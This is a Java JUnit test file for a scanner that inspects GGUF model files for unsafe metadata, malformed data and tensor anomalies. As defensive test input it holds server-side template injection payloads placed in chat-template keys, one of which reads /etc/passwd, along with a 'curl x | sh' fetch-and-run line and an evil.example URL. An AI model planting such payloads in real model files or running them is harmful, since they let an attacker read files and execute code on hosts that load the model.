package dev.modelseal.scan;

import static dev.modelseal.scan.NpyScannerTest.finding;
import static dev.modelseal.scan.NpyScannerTest.rules;
import static dev.modelseal.scan.NpyScannerTest.scan;
import static org.assertj.core.api.Assertions.assertThat;

import dev.modelseal.format.GgmlType;
import dev.modelseal.format.GgufWriter;
import dev.modelseal.format.ParseLimits;
import java.io.IOException;
import java.net.URISyntaxException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.Arrays;
import java.util.List;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

class GgufScannerTest {
  @TempDir Path dir;

  static final String SSTI =
      "{{ ''.__class__.__mro__[1].__subclasses__()[40]('/etc/passwd').read() }}";

  static GgufWriter model() {
    return new GgufWriter()
        .string("general.architecture", "llama")
        .tensor(GgufWriter.Tensor.f32("w", new long[] {2, 2}, 1f, -2f, 3f, 0.5f));
  }

  Path write(String name, GgufWriter w) throws IOException {
    return Files.write(dir.resolve(name), w.toBytes());
  }

  static Path fixture(String name) throws URISyntaxException {
    return Path.of(GgufScannerTest.class.getResource("/fixtures/gguf/" + name).toURI());
  }

  @Test
  void scan_ggufFixtures_scannedWithoutFindingsOfNote() throws Exception {
    ScanReport r = ModelScanner.create().scan(fixture("tokenizer_chat_template.gguf").getParent());
    assertThat(r.files()).hasSizeGreaterThanOrEqualTo(6);
    for (FileReport f : r.files()) {
      assertThat(f.kind()).as(f.path()).isEqualTo("gguf");
      assertThat(f.status()).as(f.path()).isEqualTo(FileStatus.SCANNED);
      assertThat(f.findings())
          .as(f.path())
          .allSatisfy(x -> assertThat(x.severity().atLeast(Severity.LOW)).isFalse());
    }
  }

  @Test
  void scan_sstiChatTemplate_criticalAtItsKey() throws IOException {
    FileReport f = scan(write("m.gguf", model().string("tokenizer.chat_template", SSTI)));
    assertThat(f.status()).isEqualTo(FileStatus.SCANNED);
    Finding x = finding(f, "template.ssti");
    assertThat(x.severity()).isEqualTo(Severity.CRITICAL);
    assertThat(x.location()).startsWith("key tokenizer.chat_template");
  }

  @Test
  void scan_sstiInNamedChatTemplate_criticalAtItsKey() throws IOException {
    GgufWriter w =
        model()
            .string("tokenizer.chat_template", TemplateInspectorTest.CHATML)
            .string("tokenizer.chat_template.tool_use", "{{ cycler.__init__.__globals__.os }}")
            .stringArray("tokenizer.chat_templates", List.of("tool_use"));
    FileReport f = scan(write("m.gguf", w));
    assertThat(f.findings())
        .filteredOn(x -> x.rule().equals("template.ssti"))
        .isNotEmpty()
        .allSatisfy(
            x -> assertThat(x.location()).startsWith("key tokenizer.chat_template.tool_use"));
  }

  @Test
  void scan_chatTemplateBeyondTextLimit_failedNotDecoded() throws IOException {
    ParseLimits small = ParseLimits.builder().maxTextBytes(64).build();
    Path p = write("m.gguf", model().string("tokenizer.chat_template", "x".repeat(65)));
    FileReport f = scan(ModelScanner.create(small, PicklePolicy.defaults()), p);
    assertThat(f.status()).isEqualTo(FileStatus.FAILED);
    assertThat(finding(f, "template.too-large").severity()).isEqualTo(Severity.HIGH);
  }

  @Test
  void scan_codeInOtherMetadata_lowFinding() throws IOException {
    GgufWriter w = model().string("general.description", "import os\nos.system('curl x | sh')");
    FileReport f = scan(write("m.gguf", w));
    Finding x = finding(f, "metadata.code-like");
    assertThat(x.severity()).isEqualTo(Severity.LOW);
    assertThat(x.location()).isEqualTo("key general.description");
  }

  @Test
  void scan_urlInOtherMetadata_infoButNotInLinkKeys() throws IOException {
    GgufWriter w =
        model()
            .string("general.source.url", "https://huggingface.co/org/model")
            .string("general.license.link", "https://example.com/license")
            .string("general.notes", "weights at https://evil.example/x.bin");
    FileReport f = scan(write("m.gguf", w));
    assertThat(f.findings())
        .singleElement()
        .satisfies(
            x -> {
              assertThat(x.rule()).isEqualTo("metadata.url");
              assertThat(x.severity()).isEqualTo(Severity.INFO);
              assertThat(x.location()).isEqualTo("key general.notes");
            });
  }

  @Test
  void scan_codeLikeTokensInVocabulary_notFlagged() throws IOException {
    GgufWriter w =
        model()
            .stringArray("tokenizer.ggml.tokens", List.of("import os", "eval(", "http://"))
            .string("tokenizer.huggingface.json", "{\"vocab\": {\"subprocess\": 1}}");
    assertThat(scan(write("m.gguf", w)).findings()).isEmpty();
  }

  @Test
  void scan_truncatedData_failedWithReaderRule() throws IOException {
    byte[] b = model().toBytes();
    Path p = Files.write(dir.resolve("t.gguf"), Arrays.copyOf(b, b.length - 20));
    FileReport f = scan(p);
    assertThat(f.status()).isEqualTo(FileStatus.FAILED);
    assertThat(rules(f)).containsExactly("gguf.tensor-out-of-bounds");
    assertThat(f.findings().getFirst().severity()).isEqualTo(Severity.HIGH);
  }

  @Test
  void scan_f32NaNAndInfinity_infoFindings() throws IOException {
    GgufWriter w =
        new GgufWriter()
            .tensor(
                GgufWriter.Tensor.f32(
                    "blk.0.w", new long[] {3}, Float.NaN, Float.NEGATIVE_INFINITY, 1f));
    FileReport f = scan(write("m.gguf", w));
    assertThat(finding(f, "tensor.nan").location()).isEqualTo("tensor blk.0.w");
    assertThat(finding(f, "tensor.inf").subject()).isEqualTo("1 of 3 F32 values");
  }

  @Test
  void scan_f16Infinity_infoFinding() throws IOException {
    GgufWriter w = new GgufWriter().tensor(GgufWriter.Tensor.f16("h", new long[] {2}, 1e6f, 1f));
    FileReport f = scan(write("m.gguf", w));
    assertThat(finding(f, "tensor.inf").subject()).isEqualTo("1 of 2 F16 values");
  }

  @Test
  void scan_quantizedZeroBlocks_allZeroFromBytes() throws IOException {
    GgufWriter w =
        new GgufWriter()
            .tensor(GgufWriter.Tensor.of("q", GgmlType.Q8_0, new long[] {32}, new byte[34]));
    FileReport f = scan(write("m.gguf", w));
    assertThat(f.findings())
        .singleElement()
        .satisfies(
            x -> {
              assertThat(x.rule()).isEqualTo("tensor.all-zero");
              assertThat(x.subject()).isEqualTo("GGML_Q8_0 [32]");
            });
  }
}
